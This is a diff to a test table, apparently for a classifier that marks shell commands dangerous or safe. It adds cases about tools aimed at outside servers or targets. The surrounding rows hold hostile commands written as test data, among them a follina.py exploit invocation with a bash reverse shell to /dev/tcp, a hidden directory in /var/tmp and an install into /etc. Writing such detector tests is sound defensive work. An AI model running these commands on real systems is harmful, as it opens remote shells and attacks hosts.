@@ -4011,6 +4011,11 @@ describe('the fifteen sets held out last stop and the hundred-and-sixtieth and -
     // A hidden place in the shared temporary directory; the display server's socket directory is the system's.
     ['mkdir /var/tmp/.system', true, 'hidden place'],
     ['ls /tmp/.X11-unix', false],
+    // A server or target named by its host, to a program or a module no table names; this machine's is the project's.
+    ['python -m smtpburst --outbound-test --server smtp.example.com', true, 'server or target'],
+    ['./spindrift.py names.txt --target contoso.com', true, 'server or target'],
+    ['./mailtool --server localhost:1025 --send test.eml', false],
+    ['python -m mymodule --verbose', false],
     ['install -Dm600 data/rules/* $(DESTDIR)/etc/opensnitchd/rules/', true, 'outside the workspace'],
     ['python3 follina.py -c "bash -c \'exec bash -i &>/dev/tcp/$RHOST/$RPORT <&1\'"', true, 'reverse shell'],
   ] as [string, boolean, string?][])('%s → dangerous %s', (cmd, dangerous, reason) => {
